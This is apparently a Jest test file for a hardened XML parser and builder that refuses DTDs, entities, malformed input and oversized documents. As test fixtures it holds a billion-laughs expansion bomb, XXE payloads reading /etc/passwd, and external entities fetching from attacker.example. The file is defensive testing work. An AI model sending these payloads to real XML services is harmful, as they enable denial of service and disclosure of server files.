import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createXmlBinding, readRootElement, UnsafeXmlError, type XmlBindingOptions } from './xml-binding';

const binding = (options: Partial<XmlBindingOptions> = {}) => createXmlBinding({ attributePrefix: '@', ...options });

function refusal(run: () => unknown): string {
  try { run(); } catch (error) { if (error instanceof UnsafeXmlError) return error.message; throw error; }
  throw new Error('expected the document to be refused');
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>`;

describe('xml binding: what is refused', () => {
  it('refuses the billion-laughs document before any expansion', () => {
    expect(refusal(() => binding().parse(BILLION_LAUGHS))).toBe('a DTD (DOCTYPE or ENTITY) is not allowed');
  });

  it('refuses XXE documents: an external entity, a parameter entity, a lower-case doctype, an ENTITY without DOCTYPE', () => {
    const attacks = [
      '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
      '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><foo/>',
      '<!doctype foo SYSTEM "http://attacker.example/foo.dtd"><foo/>',
      '<foo><!ENTITY x "y"></foo>',
    ];
    for (const attack of attacks) expect(refusal(() => binding().parse(attack))).toBe('a DTD (DOCTYPE or ENTITY) is not allowed');
  });

  describe('a SYSTEM entity', () => {
    let dir: string;
    beforeAll(() => { dir = mkdtempSync(join(tmpdir(), 'xxe-')); writeFileSync(join(dir, 'secret.txt'), 'TOP-SECRET-CONTENT'); });
    afterAll(() => { rmSync(dir, { recursive: true, force: true }); jest.restoreAllMocks(); });

    it('is never fetched: no file is read and no connection is opened, even for a path that exists', () => {
      const spies = [
        jest.spyOn(fs, 'readFileSync'), jest.spyOn(fs, 'readFile'), jest.spyOn(fs, 'openSync'), jest.spyOn(fs, 'open'),
        jest.spyOn(fs, 'createReadStream'), jest.spyOn(fs.promises, 'readFile'), jest.spyOn(fs.promises, 'open'),
        jest.spyOn(http, 'request'), jest.spyOn(http, 'get'), jest.spyOn(https, 'request'), jest.spyOn(https, 'get'),
        jest.spyOn(net, 'connect'), jest.spyOn(net, 'createConnection'),
      ];
      const file = `file://${join(dir, 'secret.txt')}`;
      const message = refusal(() => binding().parse(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY s SYSTEM "${file}">]><a>&s;</a>`));
      expect(message).not.toContain('TOP-SECRET');
      for (const spy of spies) expect(spy).not.toHaveBeenCalled();
      // The spies do see a read: the test could fail if the parser fetched the file.
      fs.readFileSync(join(dir, 'secret.txt'));
      expect(spies[0]).toHaveBeenCalledTimes(1);
    });
  });

  it('refuses a lone "&", an undeclared entity, and references to characters XML does not allow', () => {
    expect(refusal(() => binding().parse('<a>Ben &amp Co</a>'))).toMatch(/^not well-formed XML|lone "&"/);
    expect(refusal(() => binding().parse('<a x="Ben & Co"/>'))).toMatch(/^not well-formed XML|lone "&"/);
    expect(refusal(() => binding().parse('<a>caf&eacute;</a>'))).toBe('undeclared entity (only the five predefined entities are known)');
    expect(refusal(() => binding().parse('<a>&#0;</a>'))).toBe('invalid character reference');
    expect(refusal(() => binding().parse('<a>&#xD800;</a>'))).toBe('invalid character reference');
    expect(refusal(() => binding().parse('<a>&#x110000;</a>'))).toBe('invalid character reference');
  });

  it('refuses what is not well-formed: raw control characters, "<" in an attribute, broken nesting, two roots', () => {
    expect(refusal(() => binding().parse('<a>\u0001</a>'))).toBe('a character XML does not allow');
    expect(refusal(() => binding().parse('<a b="<"/>'))).toMatch(/^not well-formed XML/);
    expect(refusal(() => binding().parse('<a><b></a>'))).toMatch(/^not well-formed XML/);
    expect(refusal(() => binding().parse('<a/><b/>'))).toMatch(/one root element|not well-formed/);
    expect(refusal(() => binding().parse('<a/><a/>'))).toMatch(/one root element|not well-formed/);
    expect(refusal(() => binding().parse(''))).toMatch(/^not well-formed XML/);
  });

  it('never quotes the document in its reasons', () => {
    const documents = ['<Nom>KHADIJA &bad; ALAOUI</Nom>', '<Nom>KHADIJA ALAOUI</Nm>', '<Nom a="KHADIJA<ALAOUI"/>', '<Nom>KHADIJA & ALAOUI</Nom>'];
    for (const document of documents) {
      const message = refusal(() => binding().parse(document));
      expect(message).not.toMatch(/KHADIJA|ALAOUI|bad/);
    }
  });

  it('refuses documents nested deeper than maxDepth (the root is depth 1), also through an empty element', () => {
    const nested = (depth: number, leaf = 'x') => `${'<a>'.repeat(depth - 1)}<${leaf}/>${'</a>'.repeat(depth - 1)}`;
    expect(() => binding({ maxDepth: 5 }).parse(nested(5))).not.toThrow();
    expect(refusal(() => binding({ maxDepth: 5 }).parse(nested(6)))).toBe('nested deeper than 5 elements');
    expect(refusal(() => binding({ maxDepth: 5 }).parse(`${'<a>'.repeat(60)}${'</a>'.repeat(60)}`))).toBe('nested deeper than 5 elements');
  });

  it('refuses documents larger than maxBytes (counted in UTF-8 bytes) before reading them', () => {
    const arabic = '<a>خديجة</a>'; // 7 ASCII bytes + 5 × 2 bytes
    expect(() => binding({ maxBytes: 17 }).parse(arabic)).not.toThrow();
    expect(refusal(() => binding({ maxBytes: 16 }).parse(arabic))).toBe('larger than 16 bytes');
  });
});

describe('xml binding: what is read', () => {
  it('decodes Arabic written as decimal character references, and hex ones, in text and attributes', () => {
    const { content } = binding().parse('<Defunt prenom="&#x62E;&#x62F;&#x64A;&#x62C;&#x629;"><Prenom>&#1582;&#1583;&#1610;&#1580;&#1577;</Prenom></Defunt>');
    expect(content).toEqual({ '@prenom': 'خديجة', Prenom: 'خديجة' });
  });

  it('decodes the five predefined entities once (no double decoding) and keeps CDATA literal', () => {
    const { content } = binding().parse('<a q="&quot;&apos;"><t>&lt;b&gt; &amp;amp; &#38;#65;</t><c><![CDATA[Ben & Co <x> &amp;]]></c></a>');
    expect(content).toEqual({ '@q': '"\'', t: '<b> &amp; &#65;', c: 'Ben & Co <x> &amp;' });
    expect(refusal(() => binding().parse('<a>text<![CDATA[more]]></a>'))).toBe('an element mixes text and CDATA (not supported)');
  });

  it('keeps values as strings: no number or boolean guessing', () => {
    expect(binding().parse('<a n="007"><b>0012</b><c>1e3</c><d>true</d></a>').content).toEqual({ '@n': '007', b: '0012', c: '1e3', d: 'true' });
  });

  it('keeps listed elements as arrays with one element, and as [] when absent under their parent', () => {
    const list = binding({ arrays: ['Decision', 'Pieces/Piece'] });
    expect(list.parse('<Decisions><Decision><N>1</N></Decision></Decisions>').content).toEqual({ Decision: [{ N: '1' }] });
    expect(list.parse('<Lot><Pli><Pieces><Piece>a.pdf</Piece></Pieces></Pli><Pli><Pieces/></Pli></Lot>').content)
      .toEqual({ Pli: [{ Pieces: { Piece: ['a.pdf'] } }, { Pieces: { Piece: [] } }] });
    // Not listed: one element is an object, two are an array (fast-xml-parser's own rule).
    expect(binding().parse('<a><b>1</b></a>').content).toEqual({ b: '1' });
    expect(binding().parse('<a><b>1</b><b>2</b></a>').content).toEqual({ b: ['1', '2'] });
  });

  it('reads two prefixes bound to the same namespace the same, and drops xmlns attributes', () => {
    const one = binding().parse('<p:Lot xmlns:p="urn:ma:justice:plis:v1" p:id="7"><p:Pli>a</p:Pli></p:Lot>');
    const other = binding().parse('<q:Lot xmlns:q="urn:ma:justice:plis:v1" q:id="7"><q:Pli>a</q:Pli></q:Lot>');
    const mixed = binding().parse('<Lot xmlns="urn:ma:justice:plis:v1" xmlns:j="urn:ma:justice:plis:v1" id="7"><j:Pli>a</j:Pli></Lot>');
    expect(one).toEqual({ root: 'Lot', namespace: 'urn:ma:justice:plis:v1', content: { '@id': '7', Pli: 'a' } });
    expect(other).toEqual(one);
    expect(mixed).toEqual(one);
  });

  it('refuses a root outside the expected namespace, and accepts it under any prefix', () => {
    const justice = binding({ namespace: 'urn:ma:justice:plis:v1' });
    expect(refusal(() => justice.parse('<Lot xmlns="urn:ma:justice:plis:v2"/>'))).toBe('the root element is in another namespace, expected urn:ma:justice:plis:v1');
    expect(refusal(() => justice.parse('<Lot/>'))).toBe('the root element is in no namespace, expected urn:ma:justice:plis:v1');
    // The default namespace does not apply to a prefixed root.
    expect(refusal(() => justice.parse('<j:Lot xmlns="urn:ma:justice:plis:v1" xmlns:j="urn:other"/>'))).toMatch(/in another namespace/);
    expect(justice.parse('<?xml version="1.0"?><!-- lot --><j:Lot xmlns:j="urn:ma:justice:plis:v1"/>').root).toBe('Lot');
    expect(refusal(() => binding().parse('<Lot xmlns="urn:x"/>', { namespace: 'urn:y' }))).toMatch(/expected urn:y/);
  });

  it('tolerates a byte order mark and normalises CR LF line ends', () => {
    expect(binding().parse('\uFEFF<?xml version="1.0" encoding="UTF-8"?>\r\n<a><b>x\r\ny</b></a>').content).toEqual({ b: 'x\ny' });
  });

  it('reads attributes with the prefix of its caller', () => {
    expect(createXmlBinding({ attributePrefix: '@_' }).parse('<a id="1"><b c="2">t</b></a>').content).toEqual({ '@_id': '1', b: { '@_c': '2', '#text': 't' } });
    expect(() => createXmlBinding({ attributePrefix: '' })).toThrow(/attributePrefix/);
  });
});

describe('xml binding: what is written', () => {
  it('writes the UTF-8 declaration, escapes text and attributes, leaves out null, repeats arrays', () => {
    const xml = binding().build('AccuseLot', { '@id': 'L"1<', Pli: [{ IdPli: 'a&b' }, { IdPli: '<c>' }], Note: null, Vide: '' }, { namespace: 'urn:ma:justice:plis:v1' });
    expect(xml).toBe('<?xml version="1.0" encoding="UTF-8"?>\n<AccuseLot xmlns="urn:ma:justice:plis:v1" id="L&quot;1&lt;"><Pli><IdPli>a&amp;b</IdPli></Pli><Pli><IdPli>&lt;c&gt;</IdPli></Pli><Vide/></AccuseLot>');
  });

  it('refuses names that would inject markup (never a DOCTYPE) and characters XML cannot carry', () => {
    expect(refusal(() => binding().build('a', { '!DOCTYPE': 'a [<!ENTITY x SYSTEM "file:///etc/passwd">]' }))).toMatch(/is not an XML element name/);
    expect(refusal(() => binding().build('a', { '?xml-stylesheet': 'x' }))).toMatch(/is not an XML element name/);
    expect(refusal(() => binding().build('a', { 'b c': 'x' }))).toMatch(/is not an XML element name/);
    expect(refusal(() => binding().build('a', { '@x y': 'x' }))).toMatch(/is not an XML attribute name/);
    expect(refusal(() => binding().build('a', { b: 'x\u0000y' }))).toBe('a character XML does not allow');
    expect(refusal(() => binding().build('a', { b: Number.NaN }))).toMatch(/non-finite number/);
  });

  it('round trip: what the builder writes, the parser reads back the same (attributes, Arabic, CR, TAB, quotes)', () => {
    const xml = createXmlBinding({ attributePrefix: '@_' });
    const content = {
      '@_id': 'LOT-2026-0042',
      Pli: [
        { '@_rang': '1', IdPli: 'PLI-1', Destinataire: { '@_langue': 'ar', Nom: 'خديجة العلوي', Adresse: 'Calle "Mayor" 5\r\n28013\tMadrid' }, Motif: 'A & B <ok>' },
        { '@_rang': '2', IdPli: 'PLI-2', Destinataire: { '@_langue': 'fr\tar\n', Nom: "Youssef BENANI l'aîné" } },
      ],
    };
    const document = xml.build('AccuseLot', content, { namespace: 'urn:ma:justice:plis:v1' });
    const back = createXmlBinding({ attributePrefix: '@_', arrays: ['Pli'], namespace: 'urn:ma:justice:plis:v1' }).parse(document);
    expect(back).toEqual({ root: 'AccuseLot', namespace: 'urn:ma:justice:plis:v1', content });
  });
});

describe('readRootElement', () => {
  it('reads the root after the prolog, with its prefix and namespace', () => {
    expect(readRootElement('<?xml version="1.0"?>\n<!-- c --><?pi x?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" a=\'>\'>'))
      .toEqual({ prefix: 'soap', local: 'Envelope', namespace: 'http://schemas.xmlsoap.org/soap/envelope/' });
    expect(readRootElement('<!-- never closed')).toBeUndefined();
  });
});
